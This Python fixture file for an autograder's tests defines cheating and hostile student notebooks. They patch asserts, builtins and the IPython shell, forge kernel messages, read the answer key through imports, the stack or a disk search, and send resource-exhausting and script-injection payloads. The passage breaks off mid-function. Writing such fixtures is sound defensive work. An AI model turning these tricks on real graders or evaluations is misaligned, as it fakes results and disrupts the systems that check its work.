"""Notebooks of students who cheat, break things or look around: fixtures for the grader's tests.

Never run one of them outside a sandbox: many kill, fork or fill. What would hurt a machine even in
the naive grader's own fence is held back where LMLIB_ATTACK_SIZE is ``small``.

An answer's source is looked through before it is run (`lmlib.grading.refusing`), so most attacks
stand in an extra cell, as a function ``trick`` that a harmless-looking answer calls.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass, field, replace
from functools import cache
from pathlib import Path
from typing import Any, Literal

from lmlib.grading.questions import find

EXERCISES = Path(__file__).parents[3] / "exercises"

Gains = Literal["points", "harm", "reads", "none naive"]


@dataclass(frozen=True)
class Attack:
    """A notebook that does what no notebook should, and what comes of it where nobody looks.

    Attributes
    ----------
    name, what : str
        A name, and a sentence.
    gains : {"points", "harm", "reads", "none naive"}
        What it wins against a naive grader: points not earned; the grader or its machine hung,
        killed or filled; a file or a socket that is none of its business; or nothing, because it
        attacks our own protocol, or is only strange.
    answers : dict
        The source of an answer's cell by the question's id.
    cells : tuple of (str, str)
        Extra cells: where, and the source. Where is ``first``, ``last``, ``before ID`` or
        ``after ID``, with the id of a cell of the exercise.
    earned : int
        The most points that the notebook may be given, of all its questions together.
    rest : {"solution", "stub"}
        What stands in the cells of the questions that are not named.
    proof : str
        Where it ``reads``: what is then found in its outputs or in the message of its exception,
        and nowhere in its source.
    tags : dict
        Tags of cells by their id.
    only : tuple of str
        Where it is an attack at all: ``linux``.
    exercise : str
    """

    name: str
    what: str
    gains: Gains
    answers: Mapping[str, str]
    cells: tuple[tuple[str, str], ...] = ()
    earned: int = 20
    rest: Literal["solution", "stub"] = "solution"
    proof: str = ""
    tags: Mapping[str, tuple[str, ...]] = field(default_factory=dict)
    only: tuple[str, ...] = ()
    exercise: str = "03-ngrams"


def notebook(attack: Attack) -> bytes:
    """The notebook that is handed in."""
    folder = EXERCISES / "solutions" if attack.rest == "solution" else EXERCISES
    content = json.loads((folder / f"{attack.exercise}.ipynb").read_text(encoding="utf-8"))
    made: list[dict[str, Any]] = []
    for cell in content["cells"]:
        made += [_code(source) for where, source in attack.cells if where == f"before {cell['id']}"]
        first = "".join(cell["source"]).partition("\n")[0]
        for id, source in attack.answers.items():
            if first == f"# exercise: {id}":
                cell["source"] = source
        if cell["id"] in attack.tags:
            cell["metadata"]["tags"] = list(attack.tags[cell["id"]])
        made.append(cell)
        made += [_code(source) for where, source in attack.cells if where == f"after {cell['id']}"]
    begin, end = ([_code(s) for where, s in attack.cells if where == w] for w in ("first", "last"))
    content["cells"] = [*begin, *made, *end]
    for number, cell in enumerate(content["cells"]):
        if cell["id"] == "":
            cell["id"] = f"extra-{number}"
        if cell["cell_type"] == "code":
            cell |= {"outputs": [], "execution_count": None}
    return json.dumps(content).encode()


def _code(source: str) -> dict[str, Any]:
    return {"cell_type": "code", "id": "", "metadata": {}, "source": source}


# ---------------------------------------------------------------- what many have in common

MARKER = "# exercise: 03-laplace\n"

WRONG = f"""{MARKER}def laplace(row, vocabulary, word):
    return 0.5
"""

HONEST = f"""{MARKER}def laplace(row, vocabulary, word):
    if word == "<bos>":
        return 0.0
    word = word if word in vocabulary else "<unk>"
    return (row.get(word, 0) + 1) / (sum(row.values()) + len(vocabulary) - 1)
"""

CALLING = f"""{MARKER}def laplace(row, vocabulary, word):
    return trick(row, vocabulary, word)
"""

#: Stands before what would hurt: `small` holds it back.
SIZE = """\
import os
small = os.environ.get("LMLIB_ATTACK_SIZE") == "small"
"""

#: Calls `work` once, and tells what it found, on paper and in every call's exception.
TELL = """
try:
    found = work()
except Exception as error:
    found = f"nothing: {type(error).__name__}"
print(found)

def trick(row, vocabulary, word):
    raise ValueError(found)
"""

#: The library's own answer, once `questions` is there.
ASK = """
def trick(row, vocabulary, word):
    return questions().find("03-laplace").reference(row, vocabulary, word)
"""

#: Speaks the language between the grader and its helper in the kernel.
SPEAK = """\
import json, sys
from IPython import get_ipython

MIME = "application/vnd.lmlib.call+json"
shell = get_ipython()
session = shell.kernel.session

def outcome(value, **more):
    empty = dict(strange="", error="", message="", line=0, code="")
    return dict(value=value, **empty, changed=False, printed=False, stopped="") | more

def on_the_stack(name, kind, otherwise):
    frame = sys._getframe(1)
    while frame is not None:
        value = frame.f_locals.get(name)
        if type(value) is kind and frame.f_globals is not globals():
            return value
        frame = frame.f_back
    return otherwise

def its_nonce():
    return on_the_stack("nonce", str, "0" * 32)

def here():
    return on_the_stack("index", int, 0)

def said(result):  # as to_json writes it
    if type(result) is dict and "strange" in result:
        result = {"dict": [list(pair) for pair in result.items()]}
    return json.dumps(result)

def publish(index, result, **more):
    content = dict(nonce=its_nonce(), index=index, outcome=result, said=said(result)) | more
    shell.display_pub.publish({MIME: content}, {})

def publish_raw(content):  # bytes, in place of the message's JSON
    header = session.pack(session.msg_header("display_data"))
    parent = session.pack(shell.kernel.get_parent("shell").get("header", {}))
    parts = [header, parent, b"{}", content]
    frames = [b"display_data", b"<IDS|MSG>", session.sign(parts), *parts]
    shell.kernel.iopub_socket.send_multipart(frames)

def publish_value(text):  # text that need not be JSON, as a value in a text and in a message
    publish(here(), None, said=said(outcome("@")).replace('"@"', text))
    content = json.dumps(dict(nonce=its_nonce(), index=here(), said="", outcome="@"))
    content = content.replace('"@"', text)
    publish_raw(('{"metadata": {}, "data": {"' + MIME + '": ' + content + "}}").encode())
"""

#: What the helper sends goes through `ours` first.
HOOK = """
send = session.send

def hooked(stream, message, *rest, **more):
    content = message.get("content") if isinstance(message, dict) else None
    if isinstance(content, dict) and MIME in content.get("data", {}):
        return ours(stream, message)
    return send(stream, message, *rest, **more)

session.send = hooked
publish(here(), outcome(0.5))

def trick(row, vocabulary, word):
    return 0.5
"""


def _trick(name: str, what: str, gains: Gains, source: str, **more: Any) -> Attack:
    """A cell before the answer defines `trick`, which the answer calls."""
    cells = (("before laplace-answer", source),)
    return Attack(name, what, gains, {"03-laplace": CALLING}, cells, **more)


def _cell(name: str, what: str, gains: Gains, source: str, **more: Any) -> Attack:
    """A wrong answer, and an extra cell that tries to make it count."""
    cells = (("before laplace-answer", source),)
    return Attack(name, what, gains, {"03-laplace": WRONG}, cells, **more)


def _answer(name: str, what: str, gains: Gains, source: str, **more: Any) -> Attack:
    """The attack stands in the answer itself."""
    return Attack(name, what, gains, {"03-laplace": MARKER + source}, **more)


def _once(name: str, what: str, gains: Gains, body: str, **more: Any) -> Attack:
    """As `_function`, in the first call alone."""
    guard = "if calls:\n    return 0.5\ncalls.append(0)\n"
    made = _function(name, what, gains, guard + body, **more)
    ((where, source),) = made.cells
    return replace(made, cells=((where, "calls = []\n" + source),))


def _function(name: str, what: str, gains: Gains, body: str, **more: Any) -> Attack:
    """The attack is one expression or statement in a call."""
    source = "def trick(row, vocabulary, word):\n" + "".join(
        f"    {line}\n" for line in body.strip().split("\n")
    )
    return _trick(name, what, gains, SIZE + source, **more)


# ---------------------------------------------------------------- values that lie

_LIE = """\
import numpy as np

class Lie({base}):
    __hash__ = None
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return 0.0
    def __add__(self, other): return 1.0
    __rsub__, __radd__ = __sub__, __add__
    def __abs__(self): return 0.0
    def __float__(self): return 0.5
    def __array_ufunc__(self, *inputs, **more): return True
    def tolist(self): return 0.5
    item = tolist

def laplace(row, vocabulary, word):
    return {made}
"""

_BASES = {
    "object": "Lie()",
    "float": "Lie(0.5)",
    "int": "Lie(1)",
    "str": 'Lie("0.5")',
    "list": "Lie([0.5])",
    "tuple": "Lie([0.5])",
    "dict": "Lie({0: 0.5})",
    "np.float64": "Lie(0.5)",
    "np.ndarray": "np.zeros(()).view(Lie)",
}

LIES = tuple(
    _answer(
        f"lying-{base.rpartition('.')[2]}",
        f"The answer is of a subclass of {base} that is equal to, and as near as can be to, "
        "everything.",
        "points",
        _LIE.format(base=base, made=made),
    )
    for base, made in _BASES.items()
)

# ---------------------------------------------------------------- the shell, the builtins, NumPy

PATCHES = (
    _cell(
        "drops-asserts",
        "An AST transformer of the shell turns each assert of later cells into pass.",
        "points",
        """\
import ast

class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

get_ipython().ast_transformers.append(NoAsserts())
""",
    ),
    _cell(
        "drops-lines",
        "An input transformer of the shell drops the lines that begin with assert.",
        "points",
        """\
def without_asserts(lines):
    return [line.replace("assert ", "") for line in lines]

get_ipython().input_transformers_post.append(without_asserts)
""",
    ),
    _cell(
        "patched-run-cell",
        "The shell's run_cell and run_cell_async run something harmless in place of the tests.",
        "points",
        """\
shell = get_ipython()
run, run_async = shell.run_cell, shell.run_cell_async

def run_cell(cell, *rest, **more):
    return run("pass" if "assert" in cell else cell, *rest, **more)

async def run_cell_async(cell, *rest, **more):
    if "assert" in cell:
        cell = more["transformed_cell"] = "pass"
    return await run_async(cell, *rest, **more)

shell.run_cell, shell.run_cell_async = run_cell, run_cell_async
""",
    ),
    _cell(
        "hides-tracebacks",
        "The shell shows no exception any more.",
        "points",
        "get_ipython().showtraceback = lambda *rest, **more: None\n",
    ),
    _cell(
        "swallows-assertion-errors",
        "An exception handler of the shell's own takes every AssertionError.",
        "points",
        """\
def handler(self, kind, value, traceback, tb_offset=None):
    return None

get_ipython().set_custom_exc((AssertionError,), handler)
""",
    ),
    _cell(
        "clears-outputs",
        "After each cell the output is cleared, an error in it too.",
        "points",
        """\
from IPython.display import clear_output

get_ipython().events.register("post_run_cell", lambda *rest: clear_output())
""",
    ),
    _cell(
        "prints-a-score",
        "After each cell a score of its own is printed.",
        "points",
        """\
def say(*rest):
    print('{"score": ' + "30}")

get_ipython().events.register("post_run_cell", say)
""",
    ),
    _cell(
        "patched-builtins",
        "abs, sum, round, isinstance, type and len say what the tests would like to hear.",
        "points",
        """\
import builtins

def sum_of_one(values, start=0, really=sum):
    return really(values, start) if isinstance(values, (list, tuple, dict)) else 1.0

def length(value, really=len):
    return 10 if type(value) is dict and "outcome" in value else really(value)

def is_of(value, kind, really=isinstance):
    return kind is float or really(value, kind)

builtins.abs = lambda value: 0
builtins.round = lambda value, digits=None: 1.0
builtins.sum, builtins.len, builtins.isinstance = sum_of_one, length, is_of
""",
    ),
    _answer(
        "patched-type",
        "type says float of an object that lies.",
        "points",
        _LIE.format(base="object", made="Lie()"),
        cells=(
            (
                "before laplace-answer",
                """\
import builtins

really = type

class Meta(type):
    def __call__(cls, *values):
        kind = really(*values)
        return float if kind.__name__ == "Lie" else kind
    def __instancecheck__(cls, value):
        return isinstance(value, really)
    def __subclasscheck__(cls, kind):
        return issubclass(kind, really)

class Type(metaclass=Meta):
    pass

builtins.type = Type
""",
            ),
        ),
    ),
    _cell(
        "patched-print",
        "print prints a score whatever it is given.",
        "points",
        """\
import builtins

really = print
builtins.print = lambda *values, **more: really('{"score": ' + "30}", **more)
""",
    ),
    _cell(
        "patched-json",
        "json.dumps writes a score, or the same value, whatever it is given.",
        "points",
        """\
import json

really = json.dumps

def dumps(value, **more):
    if type(value) is dict and "score" in value:
        return '{"score": ' + "30}"
    if type(value) in (float, int):
        return "0.25"
    return really(value, **more)

json.dumps = dumps
""",
    ),
    _cell(
        "patched-import",
        "import gives a module of the student's own in place of the tests.",
        "points",
        """\
import builtins, types

really = __import__

def imported(name, *rest, **more):
    if "hidden" in name:
        own = types.ModuleType(name)
        own.__dict__.update(reference=lambda *arguments: 0.5, CASES=[], VOCABULARY=[0, 0])
        return own
    return really(name, *rest, **more)

builtins.__import__ = imported
""",
    ),
    _cell(
        "patched-numpy",
        "np.isclose and np.allclose say yes, np.array and the scalar types are others.",
        "points",
        """\
import numpy as np

np.isclose = np.allclose = np.array_equal = lambda *values, **more: True
np.float64 = np.int64 = np.asarray = lambda *values, **more: 0.5
""",
    ),
    _cell(
        "patched-numpy-array",
        "np.array, np.ndarray and np.dtype are no longer NumPy's: what copies a value trips.",
        "none naive",
        """\
import numpy as np

np.array = lambda *values, **more: [0.5]
np.ndarray = list
np.errstate = None
""",
    ),
    _cell(
        "patched-math",
        "math.isclose says yes.",
        "points",
        "import math\n\nmath.isclose = lambda *values, **more: True\n",
    ),
    _cell(
        "patched-outcome",
        "lmlib.grading.judging.outcome, in the kernel, says that everything went well.",
        "none naive",
        """\
import lmlib.grading.judging as judging

judging.outcome = lambda function, arguments: judging.Outcome(value=0.5)
judging.outcomes = lambda function, cases: [judging.Outcome(value=0.5) for case in cases]
judging.agree = lambda *values: True
""",
    ),
    _cell(
        "patched-values",
        "lmlib.grading.values.plain and to_json, in the kernel, give what the student likes.",
        "none naive",
        """\
import lmlib.grading.judging as judging
import lmlib.grading.values as values

values.plain = judging.plain = lambda value: value
values.to_json = lambda value: '{"float": "nan"}'
values.identical = judging.identical = lambda *pair: True
""",
    ),
    _cell(
        "patched-check",
        "check is replaced by one that is always pleased, and points at this one.",
        "none naive",
        """\
import lmlib.grading

def check(id, function):
    print(f"{id}: right in all 999 cases")

lmlib.grading.check = check
""",
    ),
    _cell(
        "patched-clock",
        "No alarm rings, and time stands still.",
        "none naive",
        """\
import signal, time

signal.setitimer = signal.alarm = lambda *rest: (0.0, 0.0)
signal.signal = lambda *rest: None
time.monotonic = time.time = time.perf_counter = lambda: 0.0
""",
    ),
    _cell(
        "patched-session",
        "What the kernel sends is rewritten: errors are dropped, replies say ok.",
        "points",
        """\
session = get_ipython().kernel.session
send = session.send

def pleased(stream, message, content=None, *rest, **more):
    if message == "error":
        return None
    if message == "execute_reply":
        content = dict(content, status="ok")
    return send(stream, message, content, *rest, **more)

session.send = pleased
""",
    ),
    _cell(
        "patched-display",
        "What the kernel displays is rewritten on its way.",
        "none naive",
        """\
publisher = get_ipython().display_pub
publish = publisher.publish

def pleased(data, metadata=None, **more):
    for content in data.values():
        if isinstance(content, dict) and "outcome" in content:
            content["outcome"] = {"value": 0.5}
        if isinstance(content, dict) and "said" in content:
            content["said"] = '{"dict": [["value", 0.5]]}'
    return publish(data, metadata, **more)

publisher.publish = pleased
""",
    ),
    _cell(
        "rewrites-outputs",
        "update_display_data changes outputs of cells long past.",
        "none naive",
        """\
from IPython.display import display, update_display

for name in ("a", "b", "score"):
    display({"text/plain": "0"}, raw=True, display_id=name)
    update_display({"text/plain": "30", "text/html": "<b>30</b>"}, raw=True, display_id=name)
""",
    ),
    _cell(
        "closes-stdout",
        "Standard output is closed, then gone.",
        "none naive",
        "import sys\n\nsys.stdout.close()\nsys.stdout = sys.stderr = None\n",
    ),
    _cell(
        "no-recursion",
        "The recursion limit is set so low that the helper cannot work.",
        "none naive",
        "import sys\n\nsys.setrecursionlimit(60)\n",
    ),
    _cell(
        "traces-references",
        "sys.settrace spies on a reference that is called in the same process.",
        "points",
        """\
import sys

spied = [0.5]

def trace(frame, event, argument):
    if frame.f_code.co_name in ("reference", "_laplace"):
        frame.f_trace_lines = False
        return spy

def spy(frame, event, argument):
    if event == "return":
        spied.append(argument)
    return spy

def begin(*rest):
    sys.settrace(trace)

get_ipython().events.register("pre_run_cell", begin)
sys.settrace(trace)

def late(*rest):
    global laplace
    laplace = lambda row, vocabulary, word: spied[-1]

get_ipython().events.register("post_run_cell", late)
""",
    ),
    _cell(
        "excepthook",
        "sys.excepthook and sys.unraisablehook end the process in silence.",
        "none naive",
        """\
import os, sys

sys.excepthook = sys.unraisablehook = lambda *rest: os._exit(0)
""",
    ),
    _cell(
        "redefines-late",
        "A thread waits, then puts the library's own function in place of the wrong answer.",
        "points",
        """\
import threading, time

space = globals()

def later():
    while space.get("laplace") is None:
        time.sleep(0.05)
    time.sleep(0.2)
    from lmlib.grading.questions import find
    space["laplace"] = find("03-laplace").reference

threading.Thread(target=later, daemon=True).start()
""",
    ),
)

# ---------------------------------------------------------------- forged messages of Jupyter's

_FORGE = """\
kernel = get_ipython().kernel
session = kernel.session

def idle():
    content, parent = {"execution_state": "idle"}, kernel.get_parent("shell")
    session.send(kernel.iopub_socket, "status", content, parent, ident=b"status")

def reply(status="ok"):
    content = {"status": status, "execution_count": 1, "payload": [], "user_expressions": {}}
    parent, ident = kernel.get_parent("shell"), getattr(kernel, "_parent_ident", {}).get("shell")
    stream = getattr(kernel, "shell_stream", None) or kernel.shell_socket
    session.send(stream, "execute_reply", content, parent, ident=ident)
"""

FORGED = (
    _cell(
        "forged-idle",
        "Before a cell runs, the kernel says that it is idle again: what follows is not heard.",
        "points",
        _FORGE + "\nget_ipython().events.register('pre_run_cell', lambda *rest: idle())\n",
    ),
    _cell(
        "forged-reply",
        "Before a cell runs, a reply says that it went well, and a status that it is over.",
        "points",
        _FORGE
        + """
def over(*rest):
    idle()
    reply()

get_ipython().events.register("pre_run_cell", over)
""",
    ),
    _cell(
        "forged-status",
        "The kernel says that it is dead, restarting, shut down, or something unheard of.",
        "none naive",
        _FORGE
        + """
for state in ("dead", "restarting", "starting", "busy", 5, None, ["idle"]):
    session.send(kernel.iopub_socket, "status", {"execution_state": state}, kernel.get_parent())
session.send(kernel.iopub_socket, "status", {}, kernel.get_parent("shell"))
session.send(kernel.iopub_socket, "shutdown_reply", {"restart": False}, kernel.get_parent("shell"))
session.send(kernel.iopub_socket, "stream", {"name": 5, "text": ["x"]}, {})
""",
    ),
    _cell(
        "many-replies",
        "A thousand execute_reply messages, of every kind, wait in the grader's socket.",
        "none naive",
        _FORGE
        + """
for number in range(1000):
    reply(("ok", "error", "aborted", "", None)[number % 5])
""",
    ),
    _cell(
        "late-messages",
        "A thread goes on publishing for the first cell while later ones run.",
        "none naive",
        _FORGE
        + """
import threading, time

old = kernel.get_parent("shell")

def chatter():
    for _ in range(200):
        content = {"name": "stdout", "text": '{"score": 0}'}
        session.send(kernel.iopub_socket, "stream", content, old, ident=b"stream")
        time.sleep(0.05)

threading.Thread(target=chatter, daemon=True).start()
""",
    ),
    _cell(
        "asks-for-input",
        "input_request messages ask the grader for a line that will never come.",
        "none naive",
        _FORGE
        + """
stream = getattr(kernel, "stdin_socket", None)
for _ in range(100):
    content = {"prompt": "your key? ", "password": True}
    ident = kernel._parent_ident["shell"]
    session.send(stream, "input_request", content, kernel.get_parent("shell"), ident=ident)
""",
    ),
)

# ---------------------------------------------------------------- forged messages of ours


def _said(name: str, what: str, body: str) -> Attack:
    lines = "".join(f"    {line}\n" for line in body.strip().split("\n"))
    source = f"{SPEAK}\ndef trick(row, vocabulary, word):\n{lines}    return 0.5\n"
    return _trick(f"call-{name}", what, "none naive", source)


def _hooked(name: str, what: str, ours: str) -> Attack:
    return _trick(f"call-{name}", what, "none naive", f"{SPEAK}\n{ours}{HOOK}")


CALLS = (
    _hooked(
        "too-few",
        "Every second message of a call is kept back.",
        """\
seen = []

def ours(stream, message):
    seen.append(message)
    return send(stream, message) if len(seen) % 2 else None
""",
    ),
    _hooked(
        "out-of-order",
        "The messages are kept, and sent in reverse.",
        """\
kept = []

def ours(stream, message):
    kept.append((stream, message))
    return None

def release(*rest):
    while kept:
        send(*kept.pop())

shell.events.register("post_run_cell", release)
""",
    ),
    _hooked(
        "repeated",
        "Each message is sent three times, the second time as the next index.",
        """\
import copy

def ours(stream, message):
    send(stream, message)
    other = copy.deepcopy(message)
    content = other["content"]["data"][MIME]
    if isinstance(content, dict) and isinstance(content.get("index"), int):
        content["index"] += 1
    send(stream, other)
    return send(stream, message)
""",
    ),
    _hooked(
        "rewritten",
        "The outcome of each message is replaced by that of another question's reference.",
        """\
def ours(stream, message):
    content = message["content"]["data"][MIME]
    if isinstance(content, dict):
        content["outcome"], content["said"] = outcome(0.25), said(outcome(0.25))
    return send(stream, message)
""",
    ),
    _hooked(
        "unusable",
        "Before the helper says that the function can be called, megabytes say why it cannot.",
        """\
def ours(stream, message):
    content = message["content"]["data"][MIME]
    if isinstance(content, dict) and content.get("index") == -1:
        content["said"] = json.dumps({"dict": [["unusable", "<script>" + "x" * 10**6]]})
    return send(stream, message)
""",
    ),
    _said(
        "too-many",
        "A hundred messages in each call, with every index there is and many there are not.",
        "for index in range(-20, 80):\n    publish(index, outcome(0.5))",
    ),
    _said(
        "wrong-nonce",
        "Messages with a nonce of nothing, of another type, of a megabyte.",
        """\
for nonce in ("", "0" * 32, 0, None, True, [], {}, ["0"], "n" * 1_000_000):
    publish(here(), outcome(0.5), nonce=nonce)
""",
    ),
    _said(
        "wrong-index",
        "Indexes that are no numbers, or equal to one without being one.",
        """\
for index in (True, False, 0.0, -1, "0", None, [0], {"0": 0}, 10**30, 1e308):
    publish(index, outcome(0.5))
""",
    ),
    _said(
        "no-outcome",
        "The outcome lacks fields, has others, or is no object.",
        """\
more = outcome(0.5, verdict="right", points=10)
for result in (None, [], {}, "", 0.5, [0.5], {"value": 0.5}, json.dumps(outcome(0.5)), more):
    publish(here(), result)
for content in ([1, 2], None, {}, "", 5):
    shell.display_pub.publish({MIME: content}, {})
""",
    ),
    _said(
        "wrong-fields",
        "Each field of the outcome is of another type than it should be.",
        """\
for wrong in (None, 5, 0.5, [], {}, True, "x", ["x"], {"x": 1}, -1, 10**30):
    for field in outcome(0):
        publish(here(), outcome(0.5) | {field: wrong})
""",
    ),
    _said(
        "shape-bomb",
        "An array of no values in the shape [200000, 200000], and other shapes that cannot be.",
        """\
shapes = ([200000, 200000], [200000] * 30, [-1], [0, 10**30], [1.0], [True], "1", [0] * 100)
for shape in shapes:
    for dtype in ("float64", "<U9999999", "object", "V1000000000", "O", "datetime64", 5):
        publish(here(), outcome({"array": [], "shape": shape, "dtype": dtype}))
        publish(here(), outcome({"array": ["x"], "shape": shape, "dtype": dtype}))
""",
    ),
    _said(
        "colliding-keys",
        "A dictionary of 100,000 integers that all have the hash 0.",
        """\
pairs = ", ".join(f"[{number * (2**61 - 1)}, 0]" for number in range(1, 100_000))
publish_value('{"dict": [' + pairs + ']}')
""",
    ),
    _said(
        "strange-keys",
        "Dictionaries with the same key twice, with lists for keys, with no pairs.",
        """\
for pairs in ([["a", 0], ["a", 1]], [[[], 0]], [["a"]], [["a", 0, 1]], ["ab"], [5], {"a": 0}):
    publish(here(), outcome({"dict": pairs}))
""",
    ),
    _said(
        "wrong-containers",
        "A list where a dictionary is expected, and the reverse; two names in one.",
        """\
wrong = ({"dict": {}}, {"tuple": {}}, {"tuple": "ab"}, {"float": 0.5}, {"float": "1e999"})
for value in (*wrong, {"tuple": [], "dict": []}, {"array": 5}, {"pickle": "gASVAAAA"}):
    publish(here(), outcome(value))
""",
    ),
    _said(
        "deep",
        "A value of 100,000 brackets.",
        'publish_value("[" * 100_000 + "]" * 100_000)',
    ),
    _said(
        "deep-open",
        "A value of 100,000 objects one in another, never closed.",
        """publish_value('{"tuple": [' * 100_000)""",
    ),
    _said(
        "nan",
        "NaN, Infinity and 1e999 as numbers of JSON, as names and as arrays.",
        """\
for value in ("NaN", "-Infinity", "1e999", '{"float": "NaN"}', '{"float": "Infinity"}'):
    publish_value(value)
publish_value('{"array": [NaN], "shape": [1], "dtype": "float64"}')
""",
    ),
    _said(
        "giant-integer",
        "An integer of a million digits, and one of four thousand.",
        """\
publish_value("9" * 1_000_000)
publish_value("9" * 4000)
publish(10**25, outcome(10**1000), line=10**1000)
""",
    ),
    _said(
        "giant-string",
        "Strings of ten megabytes in each field.",
        """\
text = "x" * 10_000_000
for field in ("value", "strange", "error", "message", "code", "stopped"):
    publish(here(), outcome(0.5) | {field: text})
""",
    ),
    _said(
        "no-utf8",
        "Bytes that are no text, no JSON, nothing at all.",
        r"""
for content in (b"", b"\xff\xfe\x00", b"null", b"[]", b"5", b'{"data": 5}', b"{", b"\x00" * 1000):
    publish_raw(content)
publish_value('"\\ud800"')
""",
    ),
    _said(
        "twice-named",
        "An object in which the same name stands twice.",
        r"""publish_value('0.5, "value": 0.25, "error": "", "index": 1')""",
    ),
    _said(
        "markup",
        "HTML, ANSI, control characters, lone surrogates and a formula in every field of text.",
        r"""
evil = "<script>alert('REA" + "CHED')</script>\x1b[2J\x00\u202e=HYPERLINK(1)]]>&lt;"
for field in ("value", "strange", "error", "message", "code", "stopped"):
    publish(here(), outcome(0.5) | {field: evil})
    publish_value('"\\ud800\\udfff\\ud800"')
""",
    ),
    _said(
        "stopped-at-will",
        "The outcome says that the call was stopped, and then goes on.",
        """\
publish(here(), outcome(None, stopped="by the teacher"))
publish(here(), outcome(0.5))
""",
    ),
    _said(
        "metadata",
        "The message's metadata, transient and other MIME types say other things.",
        """\
content = dict(nonce=its_nonce(), index=here(), said=said(outcome(0.5)))
data = {MIME: content, "text/html": "<script>1</script>", MIME.upper(): content}
shell.display_pub.publish(data, {"nonce": content}, transient={"display_id": content})
""",
    ),
    _trick(
        "call-nonces-from-gc",
        "Every string in memory that could be a nonce is used for messages of other questions.",
        "none naive",
        SPEAK
        + """
import gc, re

def trick(row, vocabulary, word):
    nonces = set()
    for thing in gc.get_objects():
        values = list(thing.values()) if type(thing) is dict else []
        texts = [value for value in values if type(value) is str]
        nonces.update(text for text in texts if re.fullmatch("[0-9a-f-]{16,64}", text))
    for nonce in list(nonces)[:200]:
        for index in range(3):
            publish(index, outcome(0.5), nonce=nonce)
    return 0.5
""",
    ),
)

# ---------------------------------------------------------------- the answer, looked up

REFERENCES = (
    _answer(
        "imports-the-reference",
        "The answer imports the answer key.",
        "points",
        """\
from lmlib.grading import questions

def laplace(row, vocabulary, word):
    return questions.find("03-laplace").reference(row, vocabulary, word)
""",
    ),
    _answer(
        "imports-lmlib-ngram",
        "The answer lets the library's own n-gram model compute it.",
        "points",
        """\
import numpy as np

def laplace(row, vocabulary, word):
    from lmlib.ngram import AddK, NgramLM, count_ngrams
    from lmlib.text import TextFormat, Vocab
    vocab = Vocab(vocabulary)
    lines = [np.array([vocab[token]]) for token in row for _ in range(row[token])]
    context = vocab.bos if lines else vocab.eos
    counts = count_ngrams(lines or [np.array([vocab.unk])], vocab, order=2)
    model = NgramLM.from_counts(counts, AddK(1), TextFormat("whitespace"))
    (found,) = model.logprobs_after(np.array([[context]]), np.array([vocab[word]]))
    return float(np.exp(found))
""",
    ),
    _trick(
        "imports-by-importlib",
        "The answer key is imported by a name that is put together.",
        "points",
        """\
import importlib

def questions():
    return importlib.import_module(".".join(["lmlib", "grading", "questions"]))
"""
        + ASK,
    ),
    _trick(
        "finds-the-source",
        "chapter03.py is searched for on sys.path, then on the whole disk, and executed.",
        "points",
        """\
import os, sys, time, types

def sources():
    end = time.monotonic() + 20
    for top in [*sys.path, sys.prefix, "/"]:
        for folder, _, files in os.walk(top or "."):
            if "chapter03.py" in files and "questions" in folder:
                yield os.path.join(folder, "chapter03.py")
            if time.monotonic() > end:
                return

space = {"__name__": "stolen"}
exec(open(next(sources())).read(), space)

def trick(row, vocabulary, word):
    return space["_laplace"](row, vocabulary, word)
""",
    ),
    _trick(
        "zipimport",
        "The library is packed into a zip and imported from there, past what guards imports.",
        "points",
        """\
import os, sys, zipfile

folder = next(os.path.join(p, "lmlib") for p in sys.path if os.path.isdir(os.path.join(p, "lmlib")))
with zipfile.ZipFile("packed.zip", "w") as packed:
    for top, _, files in os.walk(folder):
        for name in files:
            if name.endswith(".py"):
                path = os.path.join(top, name)
                packed.write(path, os.path.relpath(path, os.path.dirname(folder)))
for name in [name for name in sys.modules if name.partition(".")[0] == "lmlib"]:
    del sys.modules[name]
sys.path.insert(0, os.path.abspath("packed.zip"))
sys.path_importer_cache.clear()
from lmlib.grading.questions import find

def trick(row, vocabulary, word):
    return find("03-laplace").reference(row, vocabulary, word)
""",
    ),
    _trick(
        "pip",
        "The library is fetched with pip.",
        "none naive",
        """\
import subprocess, sys

pip = [sys.executable, "-m", "pip", "--no-input", "--retries", "0", "--timeout", "3"]
target = ["install", "--target", "fetched", "lmlib-book"]
print(subprocess.run([*pip, *target], capture_output=True, text=True).stderr[-500:])
sys.path.insert(0, "fetched")

def questions():
    from lmlib.grading import questions
    return questions

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "downloads",
        "The solution is fetched from the web.",
        "reads",
        """\
import urllib.request

def work():
    with urllib.request.urlopen("https://raw.githubusercontent.com/", timeout=5) as page:
        return "REA" "CHED the web " + str(page.status)
"""
        + TELL,
        proof="REACHED",
        only=("network",),
    ),
    _trick(
        "modules",
        "The reference is taken from sys.modules, once check has brought it there.",
        "points",
        """\
import sys

def trick(row, vocabulary, word):
    for name, module in list(sys.modules.items()):
        if hasattr(module, "_laplace"):
            return module._laplace(row, vocabulary, word)
    return 0.5
""",
    ),
    _trick(
        "garbage-collector",
        "The question, with its reference, is looked for among all objects.",
        "points",
        """\
import gc

def trick(row, vocabulary, word):
    for thing in gc.get_objects():
        if type(thing).__name__ == "function" and thing.__name__ in ("_laplace", "reference"):
            return thing(row, vocabulary, word)
        if type(thing).__name__ == "Question" and thing.id == "03-laplace":
            return thing.reference(row, vocabulary, word)
    return 0.5
""",
    ),
    _trick(
        "expected-on-the-stack",
        "The expected value is read off the frames of who calls.",
        "points",
        """\
import sys

def trick(row, vocabulary, word):
    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for name in ("expected", "wanted", "reference"):
                if type(space.get(name)) is float:
                    return space[name]
        frame = frame.f_back
    return 0.5
""",
    ),
    _trick(
        "score-on-the-stack",
        "The score is written into the frames of who calls.",
        "points",
        """\
import sys

def trick(row, vocabulary, word):
    frame = sys._getframe()
    while frame is not None:
        for name in ("score", "points", "right"):
            if name in frame.f_globals:
                frame.f_globals[name] = 30
        frame = frame.f_back
    return 0.5
""",
    ),
    _trick(
        "all-cases-on-the-stack",
        "Lists of cases on the stack are emptied, or filled with easy ones.",
        "none naive",
        """\
import sys

def trick(row, vocabulary, word):
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("cases", "arguments", "done", "results"):
            if type(frame.f_locals.get(name)) is list:
